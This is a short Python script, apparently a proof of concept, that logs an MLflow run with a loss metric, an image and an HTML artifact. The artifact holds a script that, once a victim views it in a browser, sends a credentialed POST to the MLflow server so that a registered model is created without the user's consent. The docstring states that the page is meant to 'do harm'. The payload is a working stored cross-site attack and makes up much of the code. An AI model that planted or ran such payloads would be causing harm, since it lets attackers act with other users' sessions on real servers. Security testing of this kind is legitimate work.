"""Logs a run for the browser to look at: a metric with a history, a picture, and a page that does harm if it can."""

import json
import sys

import mlflow
import numpy as np

HARM = """<!doctype html><h1>the logged page</h1><script>
const target = '%s/ajax-api/2.0/mlflow/registered-models/create'
fetch(target, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name": "harm"}' })
</script>"""

mlflow.set_experiment("looked at")
with mlflow.start_run(run_name="painted") as run:
    for step, loss in enumerate([0.75, 0.5, 0.25]):
        mlflow.log_metric("loss", loss, step)
    picture = np.zeros((240, 320, 3), dtype=np.uint8)
    picture[60:180, 80:240] = (200, 30, 30)
    mlflow.log_image(picture, "picture.png")
    mlflow.log_text(HARM % sys.argv[1], "page.html")
print(json.dumps({"experiment": run.info.experiment_id, "run": run.info.run_id}))
